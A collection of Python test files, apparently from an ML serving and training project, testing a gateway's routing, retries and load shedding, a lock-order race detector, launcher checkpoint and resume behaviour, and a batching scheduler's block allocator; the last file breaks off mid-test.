    hits = {"a": 0, "b": 0}

    def send(rep, body, timeout_s, trace_id):
        hits[rep.name] += 1
        return 200, b'{"tokens": [[1]]}'

    gw._send = send
    shared = [7, 11, 13, 17]
    for tail in range(6):
        body = json.dumps({"prompt_ids": [shared + [tail]]}).encode()
        status, _, _ = gw.handle_generate(body, {})
        assert status == 200
    assert sorted(hits.values()) == [0, 6], \
        "same-prefix traffic must pin to one replica's radix cache"
    # an explicit session header beats the derived prefix key
    status, _, _ = gw.handle_generate(
        json.dumps({"prompt_ids": [shared + [9]]}).encode(),
        {"X-KO-Session": "s-explicit"})
    assert status == 200


# -- retries ------------------------------------------------------------

def _wire_send(gw, behaviors):
    """behaviors: name -> callable() -> (status, body) or raises."""
    def send(rep, body, timeout_s, trace_id):
        return behaviors[rep.name]()
    gw._send = send


def test_retriable_failure_fails_over_to_next_replica():
    gw, clk = make_gw(retries=2, slow_start_s=0.0)
    gw.add_replica("dead", "http://dead")
    gw.add_replica("live", "http://live")
    gw.replicas["dead"].stats = {}   # equal load; make 'dead' win pick
    gw.replicas["live"].stats = {"queue_depth": 1}
    _wire_send(gw, {
        "dead": lambda: (_ for _ in ()).throw(OSError("connect refused")),
        "live": lambda: (200, b'{"tokens": [[1]]}'),
    })
    status, data, extra = gw.handle_generate(b"{}", {})
    assert status == 200
    assert extra["X-KO-Replica"] == "live"
    assert gw.m["retries"].value == 1
    assert gw.m["attempts"].labels(outcome="connect_error").value == 1
    assert gw.m["requests"].labels(code="200").value == 1


def test_terminal_status_is_never_retried():
    gw, clk = make_gw(retries=3, slow_start_s=0.0)
    gw.add_replica("a", "http://a")
    gw.add_replica("b", "http://b")
    calls = []
    def send(rep, body, timeout_s, trace_id):
        calls.append(rep.name)
        return 400, b'{"error": "bad prompt"}'
    gw._send = send
    status, data, extra = gw.handle_generate(b"{}", {})
    assert status == 400
    assert len(calls) == 1, "4xx is the caller's fault: no failover"
    assert gw.m["retries"].value == 0


def test_retries_exhausted_returns_last_upstream_answer():
    gw, clk = make_gw(retries=1, slow_start_s=0.0)
    for n in ("a", "b", "c"):
        gw.add_replica(n, f"http://{n}")
    calls = []
    def send(rep, body, timeout_s, trace_id):
        calls.append(rep.name)
        return 503, b'{"error": "replica draining"}'
    gw._send = send
    status, data, extra = gw.handle_generate(b"{}", {})
    assert status == 503
    assert len(calls) == 2, "retries=1 -> exactly 2 attempts"
    assert len(set(calls)) == 2, "the retry went to a different replica"
    assert gw.m["requests"].labels(code="503").value == 1


def test_429_upstream_records_breaker_success():
    """Backpressure means the replica is healthy-but-full: it must not
    accumulate toward opening the breaker."""
    gw, clk = make_gw(retries=0, breaker_fails=1, slow_start_s=0.0)
    gw.add_replica("a", "http://a")
    gw._send = lambda rep, body, timeout_s, trace_id: (429, b"{}")
    status, _, _ = gw.handle_generate(b"{}", {})
    assert status == 429
    assert gw.replicas["a"].breaker.state == BREAKER_CLOSED


# -- shedding -----------------------------------------------------------

def test_all_breakers_open_sheds_429_with_retry_after():
    gw, clk = make_gw(breaker_fails=1, breaker_cooldown_s=7.0,
                      slow_start_s=0.0)
    for n in ("a", "b"):
        gw.add_replica(n, f"http://{n}").breaker.record(False)
    status, data, extra = gw.handle_generate(b"{}", {})
    assert status == 429
    assert extra["Retry-After"] == "7"
    assert b"no live replica" in data
    assert gw.m["shed"].value == 1


def test_aggregate_queue_over_threshold_sheds():
    gw, clk = make_gw(shed_threshold=4, slow_start_s=0.0)
    rep = gw.add_replica("a", "http://a")
    rep.stats = {"queue_depth": 10}
    gw._send = lambda *a: (200, b"{}")  # must never be reached
    status, data, extra = gw.handle_generate(b"{}", {})
    assert status == 429
    assert "Retry-After" in extra
    payload = json.loads(data)
    assert "aggregate queue depth" in payload["error"]
    # backlog clears -> traffic flows again
    rep.stats = {}
    status, _, _ = gw.handle_generate(b"{}", {})
    assert status == 200


def test_retry_after_tracks_observed_drain_rate():
    gw, clk = make_gw(shed_threshold=10, slow_start_s=0.0)
    # 2 completions/s observed -> 20 excess requests drain in ~10s
    gw._drain_rate = 2.0
    assert gw._retry_after_s(agg_queue=10 // 2 + 20) == pytest.approx(10.0)
    assert gw._retry_after_s(agg_queue=10**6) == 60.0, "clamped"
    gw._drain_rate = 0.0
    assert gw._retry_after_s(agg_queue=50) == 5.0, "no rate yet: default"


# -- membership sync ----------------------------------------------------

def test_sync_targets_filters_job_and_staleness():
    gw, clk = make_gw(slow_start_s=0.0)
    gw.add_replica("gone", "http://gone")
    n = gw.sync_targets(items=[
        {"name": "r1", "url": "http://r1:9100/metrics",
         "labels": {"job": "serve"}, "stale": False},
        {"name": "r2", "url": "http://r2:9100/metrics",
         "labels": {"job": "serve"}, "stale": True},
        {"name": "trainer", "url": "http://t:9100/metrics",
         "labels": {"job": "train"}, "stale": False},
    ])
    assert n == 1
    assert set(gw.replicas) == {"r1"}, \
        "stale + non-serve filtered, absent member removed"
    assert gw.replicas["r1"].base_url == "http://r1:9100"


def test_sync_targets_keeps_membership_when_registry_down():
    gw, clk = make_gw(slow_start_s=0.0,
                      targets_url="http://127.0.0.1:1/nope")
    gw.add_replica("a", "http://a")
    assert gw.sync_targets() == -1
    assert set(gw.replicas) == {"a"}, "registry outage must not drop fleet"


# -- end to end over HTTP ----------------------------------------------

def test_gateway_http_proxies_trace_and_names_replica():
    import threading
    import urllib.request
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    seen = {}

    class Upstream(BaseHTTPRequestHandler):
        def log_message(self, *a):
            pass

        def do_POST(self):
            seen["trace"] = self.headers.get("X-KO-Trace")
            body = json.dumps({"tokens": [[1, 2, 3]]}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    upstream = ThreadingHTTPServer(("127.0.0.1", 0), Upstream)
    threading.Thread(target=upstream.serve_forever, daemon=True).start()

    gw = Gateway(GatewayConfig(backoff_ms=0.0, hedge_ms=0.0,
                               targets_url="", static_replicas=[],
                               slow_start_s=0.0),
                 registry=MetricsRegistry())
    gw.add_replica("up1",
                   f"http://127.0.0.1:{upstream.server_address[1]}")
    server, thread = make_gateway_server(gw)
    thread.start()
    try:
        base = f"http://127.0.0.1:{server.server_address[1]}"
        req = urllib.request.Request(
            base + "/generate",
            data=json.dumps({"prompt_ids": [[1, 2]]}).encode(),
            headers={"X-KO-Trace": "feedfacefeedface"}, method="POST")
        with urllib.request.urlopen(req, timeout=30) as resp:
            out = json.loads(resp.read())
            assert resp.headers["X-KO-Replica"] == "up1"
        assert out["tokens"] == [[1, 2, 3]]
        assert seen["trace"] == "feedfacefeedface", \
            "caller's trace id must reach the replica"

        with urllib.request.urlopen(base + "/healthz", timeout=30) as resp:
            hz = json.loads(resp.read())
        assert hz["gateway"] and hz["live"] == 1

        # draining replica stops receiving new work -> shed, not hang
        gw.replicas["up1"].draining = True
        req2 = urllib.request.Request(
            base + "/generate", data=b"{}", method="POST")
        import urllib.error
        with pytest.raises(urllib.error.HTTPError) as ei:
            urllib.request.urlopen(req2, timeout=30)
        assert ei.value.code == 429
        assert ei.value.headers["Retry-After"]
    finally:
        server.shutdown()
        upstream.shutdown()
