"""Lock-order race detector tests (ISSUE 14): the seeded A->B / B->A
inversion must be reported as a cycle, long-hold and sleep-under-lock
events must be recorded, make_lock must be free when KO_LOCKCHECK is
off — and the real gateway + scheduler + taskengine/doctor drill must
run inversion-free under KO_LOCKCHECK=1 with load on every plane.
"""

import threading
import time

import pytest

from kubeoperator_trn.telemetry import locktrace
from kubeoperator_trn.telemetry.locktrace import LockGraph, TracedLock


def run_threads(*fns, timeout=10.0):
    ts = [threading.Thread(target=fn, daemon=True) for fn in fns]
    for t in ts:
        t.start()
    for t in ts:
        t.join(timeout)
        assert not t.is_alive(), "drill thread hung"


# -- unit: the detector itself ------------------------------------------

def test_seeded_inversion_is_reported_as_cycle():
    g = LockGraph()
    a = TracedLock("A", g, threshold_s=10.0)
    b = TracedLock("B", g, threshold_s=10.0)

    def t1():                    # A -> B
        with a:
            with b:
                pass

    def t2():                    # B -> A: the inversion
        with b:
            with a:
                pass

    run_threads(t1, t2)
    cycles = g.cycles()
    assert cycles, f"inversion not detected: edges={g.edges}"
    assert any(set(c) == {"A", "B"} for c in cycles)
    rep = g.snapshot()
    assert rep["edges"]["A->B"] == 1 and rep["edges"]["B->A"] == 1


def test_consistent_order_has_no_cycle():
    g = LockGraph()
    a = TracedLock("A", g, threshold_s=10.0)
    b = TracedLock("B", g, threshold_s=10.0)

    def worker():
        for _ in range(3):
            with a:
                with b:
                    pass

    run_threads(worker, worker)
    assert g.edges == {("A", "B"): 6}
    assert g.cycles() == []


def test_edges_record_every_held_lock_not_just_the_top():
    g = LockGraph()
    a, b, c = (TracedLock(n, g, threshold_s=10.0) for n in "ABC")
    with a:
        with b:
            with c:
                pass
    assert set(g.edges) == {("A", "B"), ("A", "C"), ("B", "C")}


def test_long_hold_is_recorded():
    g = LockGraph()
    lk = TracedLock("slowpoke", g, threshold_s=0.01)
    with lk:
        time.sleep(0.05)
    assert g.long_holds and g.long_holds[0]["lock"] == "slowpoke"
    assert g.long_holds[0]["held_s"] >= 0.01


def test_sleep_probe_flags_sleep_under_lock():
    g = locktrace.reset()
    lk = TracedLock("nap", g, threshold_s=10.0)
    locktrace.install_sleep_probe()
    try:
        time.sleep(0)            # not under a lock: not recorded
        with lk:
            time.sleep(0.001)    # runtime KL001
    finally:
        locktrace.uninstall_sleep_probe()
    assert len(g.blocking) == 1
    assert g.blocking[0]["lock"] == "nap"
    assert "time.sleep" in g.blocking[0]["call"]


def test_make_lock_is_plain_when_disabled(monkeypatch):
    monkeypatch.delenv("KO_LOCKCHECK", raising=False)
    lk = locktrace.make_lock("x")
    assert not isinstance(lk, TracedLock)
    monkeypatch.setenv("KO_LOCKCHECK", "1")
    assert isinstance(locktrace.make_lock("x"), TracedLock)


def test_traced_lock_supports_acquire_timeout_and_locked():
    g = LockGraph()
    lk = TracedLock("t", g, threshold_s=10.0)
    assert lk.acquire() and lk.locked()
    assert not lk.acquire(blocking=False)
    assert not lk.acquire(True, 0.01)
    lk.release()
    assert not lk.locked()


def test_report_emits_span_and_counts(monkeypatch, tmp_path):
    from kubeoperator_trn.telemetry import tracing

    g = locktrace.reset()
    a = TracedLock("A", g, threshold_s=10.0)
    b = TracedLock("B", g, threshold_s=10.0)
    with a:
        with b:
            pass
    tracer = tracing.get_tracer()
    tracer.reset()
    rep = locktrace.report(g)
    assert rep["edges"] == {"A->B": 1} and rep["cycles"] == []
    names = [s["name"] for s in tracer.tail(5)]
    assert "lockcheck.report" in names


# -- tier-1 drill: real subsystems under KO_LOCKCHECK=1 -----------------

@pytest.fixture
def lockcheck(monkeypatch):
    monkeypatch.setenv("KO_LOCKCHECK", "1")
    graph = locktrace.reset()
    yield graph
    locktrace.reset()


def test_gateway_drill_is_inversion_free(lockcheck):
    """gateway->scheduler serving path: concurrent handle_generate
    traffic across replicas + breaker records + health status reads.
    Every Gateway/CircuitBreaker lock is a TracedLock here."""
    from kubeoperator_trn.infer.gateway import Gateway, GatewayConfig
    from kubeoperator_trn.telemetry import MetricsRegistry

    gw = Gateway(GatewayConfig(backoff_ms=0.0, hedge_ms=0.0,
                               targets_url="", static_replicas=[],
                               slow_start_s=0.0),
                 registry=MetricsRegistry())
    for i in range(3):
        gw.add_replica(f"r{i}", f"http://r{i}")
    assert isinstance(gw._lock, TracedLock)
    fail_every = {"n": 0}

    def send(rep, body, timeout_s, trace_id):
        fail_every["n"] += 1
        if fail_every["n"] % 7 == 0:
            raise OSError("connect refused")   # exercise breaker records
        return 200, b'{"tokens": [[1]]}'

    gw._send = send

    def caller():
        for _ in range(25):
            gw.handle_generate(b"{}", {})
            gw.status()

    run_threads(*[caller] * 6)
    rep = locktrace.report(lockcheck)
    assert rep["cycles"] == [], rep
    # the gateway copies state under one lock at a time — no nesting is
    # the expected shape; what must be true is that the traced locks
    # actually carried the traffic
    assert rep["acquires"].get("gateway.state", 0) > 100
    assert rep["acquires"].get("gateway.breaker", 0) > 100


def test_taskengine_doctor_drill_is_inversion_free(lockcheck):
    """taskengine->doctor control path: repair tasks enqueued by the
    doctor race user tasks across two workers while ticks keep probing.
    taskengine.state/claim locks are TracedLocks here."""
    from dataclasses import asdict

    from kubeoperator_trn.cluster import entities as E
    from kubeoperator_trn.cluster.db import DB
    from kubeoperator_trn.cluster.doctor import NodeDoctor
    from kubeoperator_trn.cluster.events import EventJournal
    from kubeoperator_trn.cluster.neuron_monitor import fake_monitor_sample
    from kubeoperator_trn.cluster.provisioner import (EC2Trn2Provisioner,
                                                      FakeCloud)
    from kubeoperator_trn.cluster.runner import FakeRunner
    from kubeoperator_trn.cluster.service import ClusterService
    from kubeoperator_trn.cluster.taskengine import TaskEngine

    db = DB()
    engine = TaskEngine(db, FakeRunner(), workers=2, poll_s=0.02)
    assert isinstance(engine._claim_lock, TracedLock)
    service = ClusterService(db, engine, EC2Trn2Provisioner(db, FakeCloud()))
    journal = EventJournal(db)
    clock = {"t": 1000.0}
    samples = {"w0": fake_monitor_sample(n_devices=1, cores_per_device=1,
                                         device_errors=2)}
    doctor = NodeDoctor(db, service, journal,
                        samples_fn=lambda: dict(samples),
                        now_fn=lambda: clock["t"],
                        fails_to_unhealthy=2, max_repairs=2,
                        window_s=3600.0, backoff_base_s=60.0,
                        stale_after_s=180.0)

    nodes = [asdict(E.Node(name=n, host_id=f"h-{n}", role=r,
                           status=E.ST_RUNNING))
             for n, r in (("m0", "master"), ("w0", "worker"))]
    cluster = asdict(E.Cluster(name="c1",
                               spec=asdict(E.ClusterSpec(provider="manual")),
                               status=E.ST_RUNNING, nodes=nodes,
                               kubeconfig="kc"))
    for i, n in enumerate(nodes):
        host = asdict(E.Host(name=f"{n['name']}-host", ip=f"10.9.0.{i+1}",
                             status="Running", cluster_id=cluster["id"]))
        host["id"] = n["host_id"]
        db.put("hosts", host["id"], host)
    db.put("clusters", cluster["id"], cluster)

    def user_tasks():
        ids = []
        for i in range(3):
            task = asdict(E.Task(cluster_id="none", op="app"))
            task["phases"] = [asdict(E.Phase(name="p1", playbook="p1"))]
            db.put("tasks", task["id"], task, name=f"t-{i}")
            engine.enqueue(task["id"])
            ids.append(task["id"])
        for tid in ids:
            assert engine.wait(tid, timeout=20)

    def doctor_ticks():
        for _ in range(4):
            doctor.tick()     # degraded -> unhealthy -> repair task
            clock["t"] += 15

    try:
        run_threads(user_tasks, doctor_ticks, timeout=30.0)
        assert doctor.remediations, "doctor never enqueued a repair"
        assert engine.wait(doctor.remediations[0]["task_id"], timeout=20)
    finally:
        engine.shutdown()
    rep = locktrace.report(lockcheck)
    assert rep["cycles"] == [], rep
    assert rep["acquires"].get("taskengine.state", 0) > 0
    assert rep["acquires"].get("taskengine.claim", 0) > 0


def test_scheduler_drill_is_inversion_free(lockcheck):
    """Continuous-batching scheduler under concurrent submits — the
    replica half of the gateway->scheduler path (real model step on
    CPU, tiny preset)."""
    from kubeoperator_trn.infer.scheduler import (
        ContinuousBatchingScheduler, SchedulerConfig)
    from kubeoperator_trn.models import llama
    from kubeoperator_trn.telemetry import MetricsRegistry

    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params_numpy(cfg, 7)
    sched = ContinuousBatchingScheduler(
        cfg, params, SchedulerConfig(slots=4, block_size=8,
                                     prefill_chunk=8),
        registry=MetricsRegistry())
    assert isinstance(sched._lock, TracedLock)
    sched.start()

    def client(seed):
        h = sched.submit([10 + seed, 11, 12], max_new_tokens=4)
        assert len(h.result(timeout=60)) == 3 + 4  # prompt + generated

    try:
        run_threads(*[lambda s=s: client(s) for s in range(4)],
                    timeout=90.0)
    finally:
        sched.stop()
    rep = locktrace.report(lockcheck)
    assert rep["cycles"] == [], rep
    assert rep["acquires"].get("infer.scheduler", 0) > 0
