"""In-pod launcher smoke (SURVEY §4.6): KO_* env contract on the CPU
backend — warmup, short train, checkpoint, resume."""

import os
import subprocess
import sys


def _run(env_extra, tmp_path, args=()):
    env = dict(os.environ)
    env.update({
        "JAX_PLATFORMS": "cpu",
        "XLA_FLAGS": env.get("XLA_FLAGS", "") + " --xla_force_host_platform_device_count=8",
        "KO_PRESET": "llama3_tiny",
        "KO_MESH_PLAN": "2,2,1,1,1",
        "KO_SEQ_LEN": "32",
        "KO_GLOBAL_BATCH": "8",
        "KO_STEPS": "25",
        "KO_CHECKPOINT_DIR": str(tmp_path / "ckpt"),
        "KO_CHECKPOINT_EVERY": "20",
        "KO_LR": "1e-3",
        "KO_WARMUP": "2",
        # legacy one-dispatch-per-step loop unless a test opts into the
        # K-step fused windowed loop
        "KO_STEPS_PER_CALL": "1",
    })
    env.update(env_extra)
    # sitecustomize pins JAX_PLATFORMS=axon unless cpu is forced via
    # jax.config — easiest in a subprocess is the -c shim below.
    # sitecustomize overwrites XLA_FLAGS at startup; append in-process.
    code = (
        "import os; os.environ['XLA_FLAGS']=os.environ.get('XLA_FLAGS','')"
        "+' --xla_force_host_platform_device_count=8';"
        "import jax; jax.config.update('jax_platforms','cpu');"
        "import sys; sys.argv=['launch']+%r;"
        "from kubeoperator_trn.launch import main; main()" % (list(args),)
    )
    return subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True,
        timeout=600, cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
    )


def test_warmup_only(tmp_path):
    res = _run({}, tmp_path, args=["--warmup-only"])
    assert res.returncode == 0, res.stderr[-2000:]
    assert "warmup compile done" in res.stdout


def test_train_checkpoints_and_resumes(tmp_path):
    res = _run({}, tmp_path)
    assert res.returncode == 0, res.stderr[-2000:]
    assert "checkpoint @ 20" in res.stdout
    assert (tmp_path / "ckpt" / "LATEST").read_text().strip() == "20"

    # Second run resumes from 20 and continues to 25.
    res2 = _run({}, tmp_path)
    assert res2.returncode == 0, res2.stderr[-2000:]
    assert "resumed from step 20" in res2.stdout


def test_eval_loop_reports_perplexity(tmp_path):
    res = _run({"KO_EVAL_EVERY": "20", "KO_EVAL_BATCHES": "2"}, tmp_path)
    assert res.returncode == 0, res.stderr[-2000:]
    lines = [l for l in res.stdout.splitlines() if l.startswith("eval @")]
    assert lines, res.stdout
    assert "ppl" in lines[0]


# --- K-step fused windowed loop (KO_STEPS_PER_CALL > 1, ISSUE 5) ---


def test_windowed_warmup_compiles_superbatch(tmp_path):
    res = _run({"KO_STEPS_PER_CALL": "4"}, tmp_path, args=["--warmup-only"])
    assert res.returncode == 0, res.stderr[-2000:]
    assert "warmup compile done" in res.stdout


def test_windowed_train_checkpoints_evals_and_resumes(tmp_path):
    env = {"KO_STEPS_PER_CALL": "4", "KO_EVAL_EVERY": "20",
           "KO_EVAL_BATCHES": "2"}
    res = _run(env, tmp_path)
    assert res.returncode == 0, res.stderr[-2000:]
    # window boundaries at 4,8,...: the 16->20 window crosses the
    # checkpoint/eval cadence, so both fire at the true global step 20
    assert "checkpoint @ 20" in res.stdout
    assert (tmp_path / "ckpt" / "LATEST").read_text().strip() == "20"
    evals = [l for l in res.stdout.splitlines() if l.startswith("eval @ 20")]
    assert evals and "ppl" in evals[0], res.stdout
    # the final (tail) window reports the terminal step
    assert "step 25 loss" in res.stdout

    res2 = _run(env, tmp_path)
    assert res2.returncode == 0, res2.stderr[-2000:]
    assert "resumed from step 20" in res2.stdout
    assert "step 25 loss" in res2.stdout


def test_windowed_cadence_fires_inside_window(tmp_path):
    # K=8: no window boundary lands on 20, so the 16->24 window must
    # fire the crossed checkpoint cadence at its boundary (step 24)
    res = _run({"KO_STEPS_PER_CALL": "8"}, tmp_path)
    assert res.returncode == 0, res.stderr[-2000:]
    assert "checkpoint @ 24" in res.stdout
    assert (tmp_path / "ckpt" / "LATEST").read_text().strip() == "24"


def test_windowed_resume_mid_grid(tmp_path):
    # checkpoint written by the legacy loop at step 20 (not a K=8
    # multiple), then resume with K=8: the window grid shifts to start
    # at 20 and the run finishes with one short 5-step tail window
    res = _run({}, tmp_path)
    assert res.returncode == 0, res.stderr[-2000:]
    assert (tmp_path / "ckpt" / "LATEST").read_text().strip() == "20"

    res2 = _run({"KO_STEPS_PER_CALL": "8"}, tmp_path)
    assert res2.returncode == 0, res2.stderr[-2000:]
    assert "resumed from step 20" in res2.stdout
    assert "step 25 loss" in res2.stdout
