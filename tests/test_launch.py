"""In-pod launcher smoke (SURVEY §4.6): KO_* env contract on the CPU
backend — warmup, short train, checkpoint, resume."""

import os
import subprocess
import sys


def _run(env_extra, tmp_path, args=()):
    env = dict(os.environ)
    env.update({
        "JAX_PLATFORMS": "cpu",
        "XLA_FLAGS": env.get("XLA_FLAGS", "") + " --xla_force_host_platform_device_count=8",
        "KO_PRESET": "llama3_tiny",
        "KO_MESH_PLAN": "2,2,1,1,1",
        "KO_SEQ_LEN": "32",
        "KO_GLOBAL_BATCH": "8",
        "KO_STEPS": "25",
        "KO_CHECKPOINT_DIR": str(tmp_path / "ckpt"),
        "KO_CHECKPOINT_EVERY": "20",
        "KO_LR": "1e-3",
        "KO_WARMUP": "2",
    })
    env.update(env_extra)
    # sitecustomize pins JAX_PLATFORMS=axon unless cpu is forced via
    # jax.config — easiest in a subprocess is the -c shim below.
    # sitecustomize overwrites XLA_FLAGS at startup; append in-process.
    code = (
        "import os; os.environ['XLA_FLAGS']=os.environ.get('XLA_FLAGS','')"
        "+' --xla_force_host_platform_device_count=8';"
        "import jax; jax.config.update('jax_platforms','cpu');"
        "import sys; sys.argv=['launch']+%r;"
        "from kubeoperator_trn.launch import main; main()" % (list(args),)
    )
    return subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True,
        timeout=600, cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
    )


def test_warmup_only(tmp_path):
    res = _run({}, tmp_path, args=["--warmup-only"])
    assert res.returncode == 0, res.stderr[-2000:]
    assert "warmup compile done" in res.stdout


def test_train_checkpoints_and_resumes(tmp_path):
    res = _run({}, tmp_path)
    assert res.returncode == 0, res.stderr[-2000:]
    assert "checkpoint @ 20" in res.stdout
    assert (tmp_path / "ckpt" / "LATEST").read_text().strip() == "20"

    # Second run resumes from 20 and continues to 25.
    res2 = _run({}, tmp_path)
    assert res2.returncode == 0, res2.stderr[-2000:]
    assert "resumed from step 20" in res2.stdout


def test_eval_loop_reports_perplexity(tmp_path):
    res = _run({"KO_EVAL_EVERY": "20", "KO_EVAL_BATCHES": "2"}, tmp_path)
    assert res.returncode == 0, res.stderr[-2000:]
    lines = [l for l in res.stdout.splitlines() if l.startswith("eval @")]
    assert lines, res.stdout
    assert "ppl" in lines[0]
