"""Continuous-batching scheduler + paged-KV allocator invariants.

These are the serving-plane correctness pins: the block allocator never
double-books or leaks, admission is occupancy-bound (refuse up front
what can never fit, queue what can't fit *yet*), chunked prefill
interleaves with decode instead of stalling it, and — the big one —
temperature-0 batched output is token-for-token identical to running
the same requests one at a time through `engine.generate`.

Everything drives `ContinuousBatchingScheduler.step()` directly on the
test thread (no scheduler thread), so state transitions are observable
deterministically between iterations.
"""

import numpy as np
import pytest

from kubeoperator_trn.infer.paged_kv import (
    BlockAllocator, blocks_needed, init_pool)
from kubeoperator_trn.infer.scheduler import (
    ContinuousBatchingScheduler, QueueFullError, RequestCancelledError,
    SchedulerConfig, SchedulerFailedError)
from kubeoperator_trn.models import llama
from kubeoperator_trn.telemetry import MetricsRegistry

CFG = llama.PRESETS["llama3_tiny"]


@pytest.fixture(scope="module")
def params():
    return llama.init_params_numpy(CFG, 7)


def make_sched(params, **kw):
    kw.setdefault("slots", 4)
    kw.setdefault("block_size", 8)
    kw.setdefault("prefill_chunk", 8)
    sc = SchedulerConfig(**kw)
    return ContinuousBatchingScheduler(CFG, params, sc,
                                       registry=MetricsRegistry())


def drain(sched, max_steps=2000):
    steps = 0
    while sched.pending:
        sched.step()
        steps += 1
        assert steps < max_steps, "scheduler did not converge"
    return steps


# ------------------------------------------------------------ allocator

def test_blocks_needed():
    assert blocks_needed(0, 8) == 0
    assert blocks_needed(-3, 8) == 0
    assert blocks_needed(1, 8) == 1
    assert blocks_needed(8, 8) == 1
    assert blocks_needed(9, 8) == 2
    assert blocks_needed(128, 16) == 8


def test_allocator_reserves_scratch_and_accounts():
    a = BlockAllocator(8)
    assert a.capacity == 7 and a.num_free == 7 and a.num_used == 0
    got = a.alloc(7)
    assert got is not None and len(got) == 7
    assert 0 not in got, "block 0 is the masked-write scratch block"
    assert sorted(got) == list(range(1, 8))
    assert a.num_free == 0 and a.num_used == 7
    a.free(got)
    assert a.num_free == 7 and a.num_used == 0


def test_allocator_atomic_refusal_and_double_free():
    a = BlockAllocator(6)  # capacity 5
    x = a.alloc(3)
    assert a.alloc(3) is None, "insufficient alloc must refuse"
    assert a.num_free == 2, "refused alloc must not consume blocks"
    y = a.alloc(2)
    assert set(x).isdisjoint(y)
    a.free(x)
    with pytest.raises(ValueError):
        a.free(x)           # double free
    with pytest.raises(ValueError):
        a.free([0])         # scratch block was never handed out
    a.free(y)
    assert a.num_free == a.capacity


def test_allocator_needs_two_blocks():
    with pytest.raises(ValueError):
        BlockAllocator(1)


def test_pool_shapes():
    pool = init_pool(CFG, num_blocks=5, block_size=8)
    assert pool.num_blocks == 5 and pool.block_size == 8
    assert pool.k.shape == (CFG.n_layers, 5, 8, CFG.n_kv_heads,
                            CFG.dim // CFG.n_heads)
    assert pool.k.shape == pool.v.shape


# ------------------------------------------------------------- admission

def test_submit_refuses_impossible_requests(params):
    s = make_sched(params, num_blocks=5, max_seq=64)  # capacity 4 = 32 tok
    with pytest.raises(ValueError):
        s.submit(np.array([], np.int32))
    with pytest.raises(ValueError):
        s.submit([1, 2], max_new_tokens=0)
    with pytest.raises(ValueError):
        s.submit([1] * 60, max_new_tokens=10)   # horizon > max_seq
    with pytest.raises(ValueError):
        s.submit([1] * 30, max_new_tokens=10)   # > pool capacity, ever
    assert s.pending == 0


def test_queue_full_rejects_with_429_semantics(params):
    s = make_sched(params, max_queue=2)
    s.submit([1, 2], max_new_tokens=2)
    s.submit([3, 4], max_new_tokens=2)
    before = s.m["rejected"].value
    with pytest.raises(QueueFullError):
        s.submit([5, 6], max_new_tokens=2)
    assert s.m["rejected"].value == before + 1
    drain(s)


def test_admission_waits_for_blocks_then_proceeds(params):
    # capacity 4 blocks of 8 = 32 tokens; each request needs 3 blocks,
    # so the second must wait in the queue until the first releases.
    s = make_sched(params, slots=4, num_blocks=5, max_seq=32)
    a = s.submit([1, 2, 3, 4], max_new_tokens=17)   # 21 tok -> 3 blocks
    b = s.submit([5, 6, 7, 8], max_new_tokens=17)
    s.step()
    assert a.state in ("prefill", "decode") and a.slot is not None
    assert b.state == "queued" and b.slot is None, \
        "pool can't cover b yet: occupancy-bound admission must hold it"
    while not a.done:
        s.step()
        if not a.done:
            assert b.state == "queued"
    drain(s)
    assert b.done and len(b.tokens) == 17
    # the prefix cache may retain refcount-0 blocks; nothing may be live
    assert s.alloc.num_used == 0
    assert s.alloc.num_free + s.alloc.num_cached == s.alloc.capacity


def test_fifo_order_no_queue_jumping(params):
    # Head needs 3 blocks (unavailable); a later tiny request that WOULD
    # fit must not jump it — head-of-line blocking is the anti-starvation
    # contract at the default lookahead of 0.
    s = make_sched(params, slots=4, num_blocks=5, max_seq=32)
    s.submit([1] * 4, max_new_tokens=17)            # 3 blocks, admitted
    big = s.submit([2] * 4, max_new_tokens=17)      # 3 blocks, waits
    small = s.submit([3] * 2, max_new_tokens=2)     # 1 block, could fit
    s.step()
    assert big.state == "queued" and small.state == "queued"
    drain(s)
    assert big.done and small.done


def test_admit_lookahead_lets_fitting_request_pass_stuck_head(params):
    # KO_INFER_ADMIT_LOOKAHEAD > 0: a later request whose (possibly
    # tail-only) block demand fits may be admitted past a head that
    # can't allocate yet.
    s = make_sched(params, slots=4, num_blocks=5, max_seq=32,
                   admit_lookahead=2)
    occ = s.submit([1] * 4, max_new_tokens=17)      # 3 blocks, admitted
    big = s.submit([2] * 4, max_new_tokens=17)      # 3 blocks, waits
    small = s.submit([3] * 2, max_new_tokens=2)     # 1 block, fits now
    s.step()
    assert small.state in ("prefill", "decode", "done"), \
        "lookahead must admit the fitting request past the stuck head"
    assert big.state == "queued"
    drain(s)
    assert occ.done and big.done and small.done


def test_admit_lookahead_starvation_guard(params):
    # The bypass budget is 4 * lookahead: after that many consecutive
    # out-of-order admissions the scheduler reverts to strict FIFO so
    # the head admits within a bounded number of bypasses.
    s = make_sched(params, slots=4, num_blocks=5, max_seq=32,
                   admit_lookahead=1)
    occ = s.submit([1] * 4, max_new_tokens=17)      # holds 3 blocks long
    big = s.submit([2] * 4, max_new_tokens=17)      # stuck head
    smalls = [s.submit([3 + i] * 2, max_new_tokens=2) for i in range(6)]
    steps = 0
    while not all(r.done for r in smalls[:4]):
        s.step()
        steps += 1
        assert steps < 500, "first four smalls never completed"
    assert not occ.done, "occupant finished too early for the guard check"
    # budget (4 bypasses) is now spent: even though a block is free, the
    # remaining smalls must wait behind the starved head
    for _ in range(3):
        s.step()
    assert big.state == "queued"
    assert smalls[4].state == "queued" and smalls[5].state == "queued", \
        "starvation guard must stop further queue-jumping"
    drain(s)
    assert big.done and all(r.done for r in smalls)


# ------------------------------------------- prefill/decode interleave

def test_chunked_prefill_interleaves_with_decode(params):
    # chunk=4: the 16-token prompt needs 4 prefill iterations.  The
    # short request must start (and keep) decoding during them.
    s = make_sched(params, slots=2, block_size=4, prefill_chunk=4,
                   max_seq=64)
    long = s.submit(np.arange(1, 17, dtype=np.int32), max_new_tokens=4)
    short = s.submit([7, 8], max_new_tokens=8)
    overlapped = False
    for _ in range(3):
        s.step()
    # both admitted; round-robin has advanced each prompt ~once
    while not short.done:
        if long.state == "prefill" and short.state == "decode":
